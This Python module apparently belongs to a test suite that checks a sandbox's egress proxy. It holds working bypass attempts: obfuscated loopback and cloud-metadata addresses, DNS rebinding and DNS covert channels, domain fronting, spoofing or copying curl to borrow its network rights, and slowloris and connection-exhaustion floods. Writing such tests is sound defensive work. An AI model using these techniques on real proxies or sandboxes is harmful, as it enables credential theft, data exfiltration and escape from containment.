"""The way out: other hosts and ports, other spellings of addresses, names that lead elsewhere, other programs."""

import array
import os
import shutil
import socket
import struct
import time
from dataclasses import replace
from pathlib import Path
from typing import Final

from workers.attacks.attack import Attack, Design, Missing
from workers.attacks.attempt import any_of, forked, run
from workers.attacks.bait import Bait
from workers.attacks.proxied import get, granted, listen, reach, secured, talk, through, tunnel

_CURL: Final = "/usr/bin/curl"


def other_host(bait: Bait) -> str:
    """Open a tunnel to a host that the policy does not name."""
    return through(bait, "forbidden.test", bait.sites["forbidden"])


def other_port(bait: Bait) -> str:
    """Open a tunnel to another port of a host that the policy names."""
    return through(bait, "allowed.test", bait.sites["forbidden"])


def plain_other_host(bait: Bait) -> str:
    """Ask the proxy for a page of a host that the policy does not name."""
    return talk(bait, get("forbidden.test", bait.sites["forbidden"], "/"))


def address(bait: Bait) -> str:
    """Open a tunnel to the host's loopback by its address."""
    return _by(bait, "127.0.0.1")


def address_decimal(bait: Bait) -> str:
    """Open a tunnel to the loopback written as one number."""
    return _by(bait, "2130706433")


def address_hexadecimal(bait: Bait) -> str:
    """Open a tunnel to the loopback written in hexadecimal."""
    return any_of(lambda text: _by(bait, text), ("0x7f000001", "0x7f.1", "0x7f.0x0.0x0.0x1"))


def address_octal(bait: Bait) -> str:
    """Open a tunnel to the loopback written in octal."""
    return any_of(lambda text: _by(bait, text), ("0177.0.0.1", "017700000001", "0177.0.0.01"))


def address_short(bait: Bait) -> str:
    """Open a tunnel to the loopback written with fewer parts."""
    return any_of(lambda text: _by(bait, text), ("127.1", "127.0.1", "127.0.0.1."))


def address_v6(bait: Bait) -> str:
    """Open a tunnel to the loopback by its IPv6 address."""
    return any_of(lambda text: _by(bait, text), ("[::1]", "[0:0:0:0:0:0:0:1]", "[::1%25lo]", "::1"))


def address_mapped(bait: Bait) -> str:
    """Open a tunnel to the loopback by an IPv4 address within an IPv6 one."""
    spellings = ("[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]")
    return any_of(lambda text: _by(bait, text), spellings)


def address_unspecified(bait: Bait) -> str:
    """Open a tunnel to the address that means every one of this host."""
    return any_of(lambda text: _by(bait, text), ("0.0.0.0", "0", "[::]", "0x0"))


def address_unicode(bait: Bait) -> str:
    """Open a tunnel to the loopback written in other digits and dots."""
    spellings = ("①②⑦.⓪.⓪.①", "127。0。0。1", "１２７.0.0.1")  # noqa: RUF001 - what the attack is about
    return any_of(lambda text: _by(bait, text.encode().decode("latin-1")), spellings)


def address_escaped(bait: Bait) -> str:
    """Open a tunnel to the loopback with its address escaped."""
    return any_of(lambda text: _by(bait, text), ("127%2e0%2e0%2e1", "%31%32%37.0.0.1", "127.0.0.1%00.allowed.test"))


def local_names(bait: Bait) -> str:
    """Open a tunnel to the host by one of its own names."""
    names = ("localhost", "LOCALHOST", "localhost.", "ip6-localhost", "localhost.localdomain", socket.gethostname())
    return any_of(lambda text: _by(bait, text), names)


def metadata(bait: Bait) -> str:
    """Open a tunnel to the cloud's metadata service, in several spellings."""
    places = ("169.254.169.254", "2852039166", "0xa9fea9fe", "[::ffff:169.254.169.254]", "[fd00:ec2::254]")
    return any_of(lambda place: _opened(bait, place, 80), places)


def metadata_by_name(bait: Bait) -> str:
    """Open a tunnel to a name that the policy lets through and that leads to the metadata service."""
    return _opened(bait, "meta.test", bait.sites["forbidden"])


def private(bait: Bait) -> str:
    """Open a tunnel to a private network."""
    places = ("10.0.0.1", "172.16.0.1", "192.168.0.1", "100.64.0.1", "[fd00::1]", "[fe80::1]", "224.0.0.1")
    return any_of(lambda place: _opened(bait, place, 80), places)


def platform(bait: Bait) -> str:
    """Open a tunnel to a port of the platform itself, which the policy lets through."""
    return through(bait, "platform.test", bait.sites["platform"])


def name_to_loopback(bait: Bait) -> str:
    """Open a tunnel to a name that the policy lets through and that leads to the host's loopback."""
    return _by(bait, "inner.test")


def name_to_loopback_v6(bait: Bait) -> str:
    """Open a tunnel to a name that leads to the host's IPv6 loopback, plain or with an IPv4 address in it."""
    return any_of(lambda name: _by(bait, name), ("inner6.test", "mapped.test", "nat64.test"))


def name_to_every_address(bait: Bait) -> str:
    """Open a tunnel to a name that leads to 0.0.0.0."""
    return _by(bait, "zero.test")


def rebound_name(bait: Bait) -> str:
    """Open tunnels to a name whose answer changes from a public address to the host's loopback."""
    return any_of(lambda _: _by(bait, "rebind.test"), range(3))


def mixed_name(bait: Bait) -> str:
    """Open a tunnel to a name with a public address that does not answer, and the host's loopback."""
    return _by(bait, "mixed.test")


def name_as_message(bait: Bait) -> str:
    """Have the host's resolver asked for a name that carries a message."""
    word = bait.token[-20:]
    answers = [_quietly(bait, f"{word}.example.com"), talk(bait, get(f"{word}.example.com", 80, "/"))]
    return " ".join(answers)


def message_below_wildcard(bait: Bait) -> str:
    """Have the host's resolver asked for a name that carries a message, below a name that the policy lets through."""
    names = [f"{bait.token[-20:]}.more.wild.test", f"{bait.token[-20:]}.allowed.test"]
    return any_of(lambda name: through(bait, name, bait.sites["allowed"]), names)


def beside_wildcard(bait: Bait) -> str:
    """Reach hosts that look as if a wildcard named them."""
    names = ("wild.test", "a.b.wild.test", "evilwild.test", "a.wild.test.evil.test", ".wild.test", "*.wild.test")
    return any_of(lambda name: _opened(bait, name, bait.sites["forbidden"]), names)


def other_name_in_tls(bait: Bait) -> str:
    """Within a tunnel to one host, ask for another by the name in TLS (domain fronting)."""
    port = bait.sites["passed"]
    return str(secured(bait, "passed.test", port, "forbidden.test", careful=False).version())


def no_tls_where_passed(bait: Bait) -> str:
    """Within a tunnel to a host of TLS, speak something else."""
    with tunnel(bait, "forbidden.test", bait.sites["passed"]) as sock:
        sock.sendall(b"SSH-2.0-attack\r\n")
        return listen(sock)


def early_words(bait: Bait) -> str:
    """Send words to a host that is denied together with the request for a tunnel."""
    host, port = "forbidden.test", bait.sites["forbidden"]
    early = f"GET / HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode()
    with tunnel(bait, host, port, early=early) as sock:
        return listen(sock)


def other_program(bait: Bait) -> str:
    """Reach a host that one program alone may reach, from another."""
    return through(bait, "bound.test", bait.sites["bound"])


def other_program_by_name(bait: Bait) -> str:
    """Reach a host that one program alone may reach, under that program's name."""

    def act() -> str:
        Path("/proc/self/comm").write_text("curl")
        return through(bait, "bound.test", bait.sites["bound"])

    return forked(act)


def copied_program(bait: Bait) -> str:
    """Reach a host that one program alone may reach, by a copy of that program."""
    place = f"/workspace/.curl-{os.getpid()}"
    shutil.copyfile(_curl(), place)
    Path(place).chmod(0o700)
    return run([place, "-sS", "-m", "5", f"http://bound.test:{bait.sites['bound']}/"])


def shared_with_program(bait: Bait) -> str:
    """Reach a host that one program alone may reach, by a connection that this program holds, too."""
    sock = reach(bait)
    sock.set_inheritable(True)
    child = os.posix_spawn(_curl(), ["curl", "-K", "-"], os.environ, setpgroup=0)
    try:
        time.sleep(0.2)
        return _asked(sock, bait)
    finally:
        os.kill(child, 9)
        os.waitpid(child, 0)


def forged_program(bait: Bait) -> str:
    """Reach a host that one program alone may reach, by a connection parked in a socket while it is looked at."""
    ours, parked = socket.socketpair()
    sock = reach(bait)
    ours.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [sock.fileno()]))])
    sock.set_inheritable(True)
    reader, writer = os.pipe()
    actions = [(os.POSIX_SPAWN_DUP2, reader, 0), (os.POSIX_SPAWN_CLOSE, ours.fileno())]
    child = os.posix_spawn(_curl(), ["curl", "-K", "-"], os.environ, file_actions=actions, setpgroup=0)
    time.sleep(0.1)
    at = f"bound.test:{bait.sites['bound']}"
    sock.sendall(f"CONNECT {at} HTTP/1.1\r\nHost: {at}\r\n\r\n".encode())
    sock.close()  # before it is looked who holds it
    time.sleep(0.2)
    try:
        _, ancillary, _, _ = parked.recvmsg(1, socket.CMSG_SPACE(4))
        taken = socket.socket(fileno=array.array("i", ancillary[0][2])[0])
        taken.settimeout(2)
        return _answered(taken, bait)
    finally:
        os.close(writer)
        os.kill(child, 9)
        os.waitpid(child, 0)


def preloaded_program(bait: Bait) -> str:
    """Reach a host that one program alone may reach, through that program's own configuration."""
    place = Path(f"/workspace/.curlrc-{os.getpid()}")
    place.write_text(f'url = "http://bound.test:{bait.sites["bound"]}/"\nsilent\nmax-time = 5\n')
    return run([_curl(), "-K", str(place)])


def connections(bait: Bait) -> str:
    """Take all connections that the way out has, so that nobody else gets out."""
    held = [reach(bait) for _ in range(100)]
    time.sleep(0.1)
    for sock in held:
        sock.close()
    time.sleep(0.2)
    answer = talk(bait, get("allowed.test", bait.sites["allowed"], "/open/x"))
    if "hello" in answer:
        raise OSError("they were bounded, and others are served after them")
    return f"nobody is served after them: {answer[:200]}"


def hang_up(bait: Bait) -> str:
    """Hang up in the middle of answers, to end the sidecar by the words that it can no longer say."""
    for number in range(30):
        sock = reach(bait)
        sock.sendall(get("flood.test", bait.sites["flood"], "/open/compressed").encode())
        time.sleep(number / 1000)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        sock.close()
    answers = [talk(bait, get("allowed.test", bait.sites["allowed"], "/open/x")) for _ in range(2)]
    if "hello" in answers[1]:
        raise OSError("others are served after it")
    return f"nobody is served after it: {answers[1][:200]}"


def slow_words(bait: Bait) -> str:
    """Hold a connection with a head that does not end."""
    with reach(bait) as sock:
        sock.sendall(b"GET http://allowed.test/open/ HTTP/1.1\r\n")
        sock.settimeout(5)
        try:
            for number in range(20):
                sock.sendall(b"X-%d: y\r\n" % number)
                time.sleep(0.25)
                sock.setblocking(False)
                try:
                    said = sock.recv(4096)
                except BlockingIOError:
                    continue
                finally:
                    sock.settimeout(5)
                raise ConnectionError(f"ended: {said[:60]!r}")
        except (BrokenPipeError, ConnectionResetError) as error:
            raise ConnectionError("it was cut") from error
    return "held for five seconds, where two are allowed"


def _by(bait: Bait, host: str) -> str:
    return through(bait, host, bait.sites["forbidden"])


def _opened(bait: Bait, host: str, port: int) -> str:
    with tunnel(bait, host, port):
        return f"a tunnel to {host}:{port}"


def _quietly(bait: Bait, host: str) -> str:
    try:
        return through(bait, host, 443)
    except OSError:
        return ""


def _asked(sock: socket.socket, bait: Bait) -> str:
    at = f"bound.test:{bait.sites['bound']}"
    sock.sendall(f"CONNECT {at} HTTP/1.1\r\nHost: {at}\r\n\r\n".encode())
    return _answered(sock, bait)


def _answered(sock: socket.socket, bait: Bait) -> str:
    with sock:
        granted(sock.recv(4096).decode("latin-1"))
        sock.sendall(f"GET / HTTP/1.1\r\nHost: bound.test:{bait.sites['bound']}\r\n\r\n".encode())
        return listen(sock)


def _curl() -> str:
    if not Path(_CURL).exists():
        raise Missing("there is no curl")
    return _CURL


_OUT: Final = "a host that the policy does not let anybody to"
_INNER: Final = "a service that trusts whoever is on the host"
_ALONE: Final = "a host that one program alone may reach"
_FORGERY: Final = Design(
    "which program holds a connection is attribution, and a program can be made to hold another's: reach is bounded by "
    "the sandbox's listener; a tool that needs more runs in a sandbox of its own"
)
_RACE: Final = replace(_FORGERY, certain=False)
"""The same, where whoever looks may be there before the socket is let go."""
_NEEDS: Final = ("egress",)

ATTACKS: Final = (
    Attack(other_host, _OUT, "secret", needs=_NEEDS),
    Attack(other_port, _OUT, "secret", needs=_NEEDS),
    Attack(plain_other_host, _OUT, "secret", needs=_NEEDS),
    Attack(address, _INNER, "secret", needs=_NEEDS),
    Attack(address_decimal, _INNER, "secret", needs=_NEEDS),
    Attack(address_hexadecimal, _INNER, "secret", needs=_NEEDS),
    Attack(address_octal, _INNER, "secret", needs=_NEEDS),
    Attack(address_short, _INNER, "secret", needs=_NEEDS),
    Attack(address_v6, _INNER, "secret", needs=_NEEDS),
    Attack(address_mapped, _INNER, "secret", needs=_NEEDS),
    Attack(address_unspecified, _INNER, "secret", needs=_NEEDS),
    Attack(address_unicode, _INNER, "secret", needs=_NEEDS),
    Attack(address_escaped, _INNER, "secret", needs=_NEEDS),
    Attack(local_names, _INNER, "secret", needs=_NEEDS),
    Attack(metadata, "the machine's cloud credentials", needs=_NEEDS),
    Attack(metadata_by_name, "the machine's cloud credentials", needs=_NEEDS),
    Attack(private, "the operator's own network", needs=_NEEDS),
    Attack(platform, "the platform's own interface", "host", needs=_NEEDS),
    Attack(name_to_loopback, _INNER, "secret", needs=_NEEDS),
    Attack(name_to_loopback_v6, _INNER, "secret", needs=_NEEDS),
    Attack(name_to_every_address, _INNER, "secret", needs=_NEEDS),
    Attack(rebound_name, _INNER, "secret", needs=_NEEDS),
    Attack(mixed_name, _INNER, "secret", needs=_NEEDS),
    Attack(name_as_message, "a covert channel through the resolver", "host", needs=_NEEDS),
    Attack(message_below_wildcard, "a covert channel through the resolver", "host", needs=_NEEDS),
    Attack(beside_wildcard, _OUT, needs=_NEEDS),
    Attack(other_name_in_tls, _OUT, "host", needs=_NEEDS),
    Attack(no_tls_where_passed, _OUT, "secret", needs=_NEEDS),
    Attack(early_words, _OUT, "secret", needs=_NEEDS),
    Attack(other_program, _ALONE, "secret", needs=_NEEDS),
    Attack(other_program_by_name, _ALONE, "secret", needs=_NEEDS),
    Attack(copied_program, _ALONE, "secret", needs=_NEEDS),
    Attack(shared_with_program, _ALONE, "secret", needs=_NEEDS),
    Attack(forged_program, _ALONE, "secret", needs=_NEEDS, design=_RACE),
    Attack(preloaded_program, _ALONE, "secret", needs=_NEEDS, design=_FORGERY),
    Attack(connections, "a way out that serves nobody else", needs=_NEEDS),
    Attack(hang_up, "a way out that serves nobody else", needs=_NEEDS),
    Attack(slow_words, "a way out that serves nobody else", needs=_NEEDS, seconds=10),
)
